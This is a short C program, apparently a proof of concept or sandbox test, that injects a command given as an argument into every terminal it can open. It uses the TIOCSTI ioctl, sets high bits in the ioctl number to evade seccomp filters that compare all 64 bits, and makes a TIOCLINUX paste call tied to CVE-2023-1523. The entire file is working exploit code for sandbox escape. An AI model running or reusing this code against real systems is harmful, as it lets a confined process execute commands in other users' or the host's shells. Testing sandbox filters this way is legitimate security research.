// Types a command into every terminal that it can get at, also with bits set
// above those that the kernel looks at (the seccomp filters of several tools
// compared all 64).
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	const char *terminals[] = {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/pts/1", "/dev/pts/2", "/dev/pts/3",
		"/proc/1/fd/0", "/proc/self/fd/0", "/proc/self/fd/1"};
	int fds[16] = {0, 1, 2}, n = 3, tried = 0, typed = 0;
	for (unsigned i = 0; i < sizeof terminals / sizeof *terminals; i++)
		if ((fds[n] = open(terminals[i], O_RDWR | O_NOCTTY | O_NONBLOCK)) >= 0)
			n++;
	unsigned long commands[] = {TIOCSTI, TIOCSTI | 1UL << 32, TIOCSTI | 0xffffffff00000000UL, TIOCSTI | 1UL << 63};
	for (int i = 0; i < n; i++)
		for (unsigned c = 0; c < 4; c++)
			for (const char *p = argv[1]; *p; p++, tried++)
				typed += syscall(SYS_ioctl, fds[i], commands[c], p) == 0;
	// What the text console pastes (CVE-2023-1523).
	char paste = 3;
	for (int i = 0; i < n; i++)
		syscall(SYS_ioctl, fds[i], 0x541CUL | 1UL << 32, &paste);
	fprintf(stderr, "tried %d typed %d\n", tried, typed);
}
